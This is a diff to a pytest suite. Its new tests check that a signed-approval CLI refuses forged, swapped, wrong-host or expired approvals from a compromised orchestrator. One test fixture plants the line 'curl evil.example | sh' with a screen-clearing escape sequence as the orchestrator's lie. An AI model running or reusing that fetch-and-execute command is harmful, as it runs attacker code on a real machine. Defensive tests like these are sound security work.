@@ -319,6 +319,10 @@ def test_a_compromised_orchestrator_cannot_pass_off_an_approval(
         ),
         "does not say": forger.written(*forger.log[:-1], replace(decided, detail="digest=yes")),
         "cannot be read": forger.renamed(paper, decided, Signed("{}", kept.signature)),
+        "what was signed cannot be read": forger.signed_with(approve_by="9999-12-31T23:59:59.999Z"),
+        "no person has such a name": forger.written(
+            *forger.log[:-2], replace(paper, actor="op\0"), replace(decided, actor="op\0")
+        ),
         "has to be": forger.written(*forger.log[:-2], replace(decided, detail=stripped)),
     }
     for words, export in cases.items():
@@ -356,7 +360,10 @@ def test_a_command_is_printed_only_when_it_is_signed(
     assert ctl("approve", site.id, "--reason", "why", "--sign", str(keys["operator"].path)).code == 0
     printed = ctl(*asked)
     assert printed.out == ctl("command", site.id).out
-    assert printed.err.startswith("operator signed it with SHA256:")
+    assert printed.err.startswith("operator signed it for spark-1 with SHA256:")
+    assert ctl(*asked, "--host", "spark-1").out == printed.out
+    elsewhere = ctl(*asked, "--host", "spark-9")
+    assert (elsewhere.code, elsewhere.out) == (ExitCode.REFUSED, "")
     assert "1 of 2 persons" in ctl(*asked, "--signers", "2").err
     own = tmp_path / "own"
     own.write_text(keys["stranger"].line("operator"))
@@ -380,6 +387,113 @@ def test_a_command_is_printed_only_when_it_is_signed(
     assert (changed.code, changed.out) == (ExitCode.REFUSED, "")
     assert "is not what is shown (command)" in changed.err
     assert ctl("command", site.id).out == "docker restart other\n"
+
+
+Lie = Callable[[dict[str, Any]], None]
+
+
+@pytest.fixture
+def lying(monkeypatch: pytest.MonkeyPatch) -> Callable[[Lie], None]:
+    """Let the orchestrator change each entry that it answers with, as `lie` does."""
+    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands
+
+    honest = Client._ask
+
+    def begin(lie: Lie) -> None:
+        def asked(self: Client, method: str, path: str, **request: Any) -> bytes:
+            body = json.loads(honest(self, method, path, **request))
+            if "action" in body:
+                lie(body)
+            return json.dumps(body).encode()
+
+        monkeypatch.setattr(Client, "_ask", asked)
+
+    return begin
+
+
+def _another_line(body: dict[str, Any]) -> None:
+    body["action"]["command_line"] = "curl evil.example \x1b[2J| sh"
+
+
+@security_property(
+    "A5",
+    "What is printed to be run is made from the arguments that were signed, not from what the orchestrator "
+    "calls their line.",
+)
+def test_the_line_that_is_printed_is_made_of_what_was_signed(
+    ctl: Ctl, site: Site, keys: dict[str, SshKey], lying: Callable[[Lie], None]
+) -> None:
+    """The right arguments beside another line for a shell: no command prints that line, signed or not."""
+    lying(_another_line)
+    approved = ctl("approve", site.id, "--reason", "why", "--sign", str(keys["operator"].path))
+    signed = ctl("command", site.id, "--approvers", str(site.approvers))
+    for printed in (approved, signed, ctl("command", site.id), ctl("show", site.id)):
+        assert printed.code == 0, printed.err
+        assert "docker restart 4f4f" in printed.out
+        assert "evil" not in printed.out + printed.err
+
+
+def test_an_approval_of_something_else_than_was_shown_is_not_printed(
+    ctl: Ctl, site: Site, lying: Callable[[Lie], None]
+) -> None:
+    """The answer to an approval is compared with what the person saw before they gave it."""
+
+    def swapped(body: dict[str, Any]) -> None:
+        if body["state"] == "approved":
+            body["action"]["command"] = ["reboot"]
+
+    lying(swapped)
+    caught = ctl("approve", site.id, "--reason", "why")
+    assert (caught.code, "reboot" in caught.out) == (ExitCode.FAILED, False)
+    assert "is not what was shown" in caught.err
+
+
+def test_the_answer_has_to_be_the_entry_that_was_asked_for(
+    ctl: Ctl, signed: Site, keys: dict[str, SshKey], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """What somebody signed for another host is not printed for this one."""
+    from escalation.cli.client import Client  # noqa: PLC0415 - patched where it stands
+
+    other = signed.served.call(signed.served.desk.opened(host="spark-2", case_id="case-2")).recommendation
+    honest = Client.get
+
+    def lying(self: Client, path: str, **params: str | int) -> bytes:
+        return honest(self, path.replace(other.id, signed.id), **params)
+
+    monkeypatch.setattr(Client, "get", lying)
+    caught = ctl("command", other.id, "--approvers", str(signed.approvers))
+    assert (caught.code, caught.out) == (ExitCode.REFUSED, "")
+    assert "answers with another entry" in caught.err
+
+
+@pytest.mark.parametrize(
+    ("state", "code"),
+    [
+        ("proposed", ExitCode.REFUSED),
+        ("rejected", ExitCode.REFUSED),
+        ("done", ExitCode.REFUSED),
+        ("lapsed", ExitCode.EXPIRED_OR_SUPERSEDED),
+        ("withdrawn", ExitCode.EXPIRED_OR_SUPERSEDED),
+    ],
+)
+def test_what_is_signed_and_not_approved_is_not_printed(
+    ctl: Ctl, signed: Site, lying: Callable[[Lie], None], state: str, code: ExitCode
+) -> None:
+    """One of two persons, a rejection after it, and what was carried out leave a signature that is over."""
+    lying(lambda body: body.update(state=state))
+    refused = ctl("command", signed.id, "--approvers", str(signed.approvers))
+    assert (refused.code, refused.out) == (code, "")
+    assert f"is {state}, and only a command that is approved is printed" in refused.err
+
+
+def test_a_key_that_counts_no_more_is_not_dated_back(
+    ctl: Ctl, signed: Site, keys: dict[str, SshKey], lying: Callable[[Lie], None]
+) -> None:
+    """When it was signed only the orchestrator says: to run it, the key has to count now."""
+    signed.approvers.write_text(keys["operator"].line("operator", 'valid-before="20250101"'))
+    lying(lambda body: body["approvals"][0].update(at="2024-06-01T00:00:00.000Z"))
+    refused = ctl("command", signed.id, "--approvers", str(signed.approvers))
+    assert (refused.code, refused.out) == (ExitCode.REFUSED, "")
 
 
 def test_by_the_clock_of_who_signs_or_runs_it_may_be_too_late(
